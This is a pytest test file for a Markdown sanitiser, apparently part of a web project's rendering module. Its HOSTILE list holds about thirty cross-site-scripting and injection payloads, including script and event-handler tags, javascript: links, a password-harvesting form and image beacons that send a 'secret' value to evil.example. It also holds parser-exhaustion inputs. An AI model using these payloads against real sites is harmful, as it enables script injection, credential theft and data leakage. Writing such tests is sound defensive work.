"""Markdown of anyone, shown to anyone."""

import re

import pytest

from objects import rendering
from objects.rendering import to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?d=secret)",
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    "![](//evil.example/p.gif)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>@import url(https://evil.example)</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<video src=https://evil.example/v autoplay>",
]
ELEMENTS = re.compile(r"<(/?[a-zA-Z][^\s>]*)([^>]*)>")
ALLOWED = {
    *("p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "em", "strong", "s"),
    *("code", "pre", "a", "table", "thead", "tbody", "tr", "th", "td"),
}


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markdown_is_inert(payload: str) -> None:
    for name, attributes in ELEMENTS.findall(to_html(payload)):
        assert name.strip("/").lower() in ALLOWED
        bare = re.sub(r'"[^"]*"', '""', attributes)
        assert set(re.findall(r"([\w-]+)=", bare)) <= {"href", "title", "rel", "start"}
        href = re.search(r'href="([^"]*)"', attributes)
        assert href is None or href.group(1).startswith(("http://", "https://", "mailto:"))


def test_the_payloads_catch_a_sanitiser_that_is_off(monkeypatch) -> None:
    monkeypatch.setattr(rendering.nh3, "clean", lambda html, **_: html)
    with pytest.raises(AssertionError):
        test_hostile_markdown_is_inert("[x](/accounts/logout/)")


def test_links_carry_rel_and_no_referrer() -> None:
    assert to_html("[x](https://a.example)") == (
        '<p><a href="https://a.example" rel="noopener nofollow noreferrer">x</a></p>\n'
    )


def test_pictures_show_as_their_description() -> None:
    assert to_html("![a gull](https://a.example/g.png)") == "<p>[a gull]</p>\n"


def test_headings_stand_below_the_page_heading() -> None:
    assert to_html("# A\n\n###### B") == "<h2>A</h2>\n<h6>B</h6>\n"


@pytest.mark.parametrize("bomb", [">" * 20_000, "[" * 20_000, "*a " * 20_000, "- " * 5_000, "`" * 20_000])
@pytest.mark.timeout(20)
def test_deeply_nested_marks_end(bomb: str) -> None:
    to_html(bomb)
